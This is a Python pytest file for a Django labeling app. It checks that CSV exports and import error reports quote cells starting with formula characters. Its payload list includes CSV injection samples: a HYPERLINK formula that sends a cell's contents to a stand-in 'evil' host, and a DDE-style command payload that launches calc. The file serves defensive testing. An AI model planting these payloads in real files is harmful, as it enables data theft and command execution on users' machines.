"""CSV formula cells ("CSV injection") in every CSV Labelsite writes: the labels export (its
direct stream and its job file) and an import's error report (both routes). User text that
would start a formula (= + - @ tab CR) reaches every text column; no cell may start with one."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from rest_framework.test import APIClient

from imports.models import ImportJob, ImportJobError, ImportStatus
from labeling.models import Label, LabelSource
from tests.exports.conftest import export_bytes, export_dataset, export_project, label, make_task

__all__ = ["export_dataset", "export_project", "make_task"]

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def cells(raw: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]


def assert_no_formula_cell(raw: bytes, *, expected_rows: int) -> None:
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) >= expected_rows, rows
    starting = [cell for cell in cells(raw) if cell.startswith(FORMULA_STARTS)]
    assert starting == []
    # the text is kept, behind the quote that makes it text
    assert any(cell.startswith("'=HYPERLINK") for cell in cells(raw))


def test_the_csv_labels_export_quotes_formula_cells_in_every_text_column(
    export_project: Any, make_task: Any, admin_user: Any
):
    for payload in PAYLOADS:
        task = label(export_project, make_task(name=f"{payload}.jpg"))
        car = task.labels.get(entry__key="car", parent=None)
        Label.objects.create(
            task=task,
            entry=car.entry,
            points=car.points,
            source=LabelSource.PREDICTION,
            score=0.5,
            model_version=payload,
        )
    job_file = export_bytes(export_project, "csv")
    client = APIClient()
    client.force_authenticate(admin_user)
    query = {"format": "csv", "include_predictions": "true"}
    streamed: Any = client.get(f"/api/projects/{export_project.id}/export", query)
    assert streamed.status_code == 200
    for raw in (job_file, b"".join(streamed.streaming_content)):
        assert_no_formula_cell(raw, expected_rows=len(PAYLOADS) + 1)


def test_the_import_error_report_quotes_formula_cells_on_both_routes(project: Any, admin_user: Any):
    job = ImportJob.objects.create(
        project=project, created_by=admin_user, format="datagym", file_name="x.json", status=ImportStatus.FAILED
    )
    ImportJobError.objects.bulk_create(
        ImportJobError(job=job, item_index=index, location=payload, code=payload, message=payload)
        for index, payload in enumerate(PAYLOADS)
    )
    client = APIClient()
    client.force_authenticate(admin_user)
    responses: tuple[Any, ...] = (
        client.get(f"/api/imports/{job.id}/errors.csv"),
        client.get(f"/api/imports/{job.id}/errors", {"format": "csv"}),
    )
    for response in responses:
        assert response.status_code == 200
        assert_no_formula_cell(b"".join(response.streaming_content), expected_rows=len(PAYLOADS) + 1)
